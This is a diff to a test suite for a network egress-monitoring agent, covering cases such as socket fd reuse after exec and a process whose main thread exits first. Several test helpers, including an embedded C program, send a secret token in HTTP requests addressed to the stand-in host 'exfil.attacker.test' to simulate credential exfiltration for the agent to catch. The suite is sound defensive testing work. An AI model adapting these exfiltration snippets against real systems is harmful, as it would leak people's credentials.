@@ -269,6 +269,7 @@ def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_ke
     require_root()
     sink = Sink()
     agent = Agent("--include-loopback")
+    child = None
     try:
         child = subprocess.Popen([sys.executable, "-c", CONNECT_AND_DIE, str(sink.port)],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
@@ -282,6 +283,8 @@ def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_ke
             time.sleep(0.1)
         assert key not in _kernel_conns(agent), "still tracked after the process ended"
     finally:
+        if child and child.poll() is None:
+            child.kill()
         agent.stop()
         sink.close()
 
@@ -296,14 +299,17 @@ s = socket.socket(fileno=100)
 s.connect(("127.0.0.1", int(sys.argv[1])))
 s.sendall(b"GET / HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n")
 s.recv(4096)
+print("connected", flush=True)
+sys.stdin.readline()
 # the socket is close-on-exec: the new image finds its fd number free
-os.execv(sys.executable, [sys.executable, "-c", sys.argv[2], str(s.fileno()), sys.argv[3]])
+os.execv(sys.executable, [sys.executable, "-c", sys.argv[2], str(s.fileno()), *sys.argv[3:]])
 """
 
 WRITE_A_FILE_AT_THAT_FD = r"""
 import os, sys
 fd, path = int(sys.argv[1]), sys.argv[2]
-token = sys.stdin.readline().strip()
+with open(sys.argv[3]) as t:
+    token = t.read().strip()
 f = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
 os.dup2(f, fd)
 os.write(fd, ("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
@@ -322,12 +328,17 @@ def test_socket_closed_on_exec_is_not_taken_for_the_file_at_its_fd_number():
     agent = Agent("--include-loopback")
     token = github_token()
     d = tempfile.mkdtemp()
+    with open(os.path.join(d, "token"), "w") as f:
+        f.write(token)
+    child = None
     try:
         child = subprocess.Popen(
             [sys.executable, "-c", CONNECT_AND_EXEC, str(sink.port), WRITE_A_FILE_AT_THAT_FD,
-             os.path.join(d, "out.txt")],
+             os.path.join(d, "out.txt"), os.path.join(d, "token")],
             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
-        child.stdin.write(token + "\n")
+        assert child.stdout.readline().strip() == "connected"
+        assert (child.pid, 100) in _kernel_conns(agent), "the connection was never tracked"
+        child.stdin.write("exec\n")
         child.stdin.flush()
         assert child.stdout.readline().strip() == "written"
         with open(os.path.join(d, "out.txt")) as f:
@@ -338,9 +349,94 @@ def test_socket_closed_on_exec_is_not_taken_for_the_file_at_its_fd_number():
         child.stdin.flush()
         child.wait()
     finally:
+        if child and child.poll() is None:
+            child.kill()
         agent.stop()
         sink.close()
         shutil.rmtree(d)
     assert not egress(agent.lines, sink.port), agent.lines
     assert not tracked, tracked
+    agent.assert_no_plaintext(token)
+
+
+
+MAIN_THREAD_EXITS_FIRST = r"""
+#include <arpa/inet.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static int port, ready[2];
+static char req[512];
+
+static void *sender(void *arg)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
+	int s = socket(AF_INET, SOCK_STREAM, 0);
+	char buf[256];
+
+	(void)arg;
+	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) || write(ready[1], "c", 1) != 1)
+		exit(2);
+	sleep(1);	/* the first thread is gone by now, and the agent has heard of it */
+	printf("%d\n", s);
+	fflush(stdout);
+	if (write(s, req, strlen(req)) < 0 || read(s, buf, sizeof(buf)) < 0)
+		exit(3);
+	sleep(2);	/* still running while the test looks */
+	return NULL;
+}
+
+int main(int argc, char **argv)
+{
+	FILE *f = argc > 2 ? fopen(argv[2], "r") : NULL;
+	char token[128] = "";
+	pthread_t t;
+
+	if (!f || !fgets(token, sizeof(token), f))
+		return 1;
+	token[strcspn(token, "\n")] = 0;
+	port = atoi(argv[1]);
+	snprintf(req, sizeof(req), "GET /v1 HTTP/1.1\r\nHost: exfil.attacker.test\r\n"
+		 "Authorization: token %s\r\n\r\n", token);
+	if (pipe(ready) || pthread_create(&t, NULL, sender, NULL) || read(ready[0], token, 1) != 1)
+		return 1;
+	pthread_exit(NULL);	/* the process lives on in the other thread */
+}
+"""
+
+
+def test_process_whose_first_thread_exits_early_is_still_watched():
+    """A process ends with its last thread: when main() calls pthread_exit, the connection
+    another thread made is still tracked, and the token it sends later is alerted on."""
+    require_root()
+    d = tempfile.mkdtemp()
+    sink = Sink()
+    agent = Agent("--include-loopback")
+    token = github_token()
+    child = None
+    try:
+        src, exe, tok = (os.path.join(d, n) for n in ("t.c", "t", "token"))
+        with open(src, "w") as f:
+            f.write(MAIN_THREAD_EXITS_FIRST)
+        with open(tok, "w") as f:
+            f.write(token)
+        subprocess.run(["cc", "-O1", "-pthread", "-o", exe, src], check=True)
+        child = subprocess.Popen([exe, str(sink.port), tok], stdout=subprocess.PIPE, text=True)
+        fd = int(child.stdout.readline())	# its first thread left a second ago
+        time.sleep(0.3)	# the agent drains every 100 ms; the process lives 2 s more
+        assert (child.pid, fd) in _kernel_conns(agent), "forgotten while the process runs"
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+        assert child.wait(timeout=30) == 0
+    finally:
+        if child and child.poll() is None:
+            child.kill()
+        agent.stop()
+        sink.close()
+        shutil.rmtree(d)
+    assert len(hits) == 1, agent.lines
+    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
     agent.assert_no_plaintext(token)
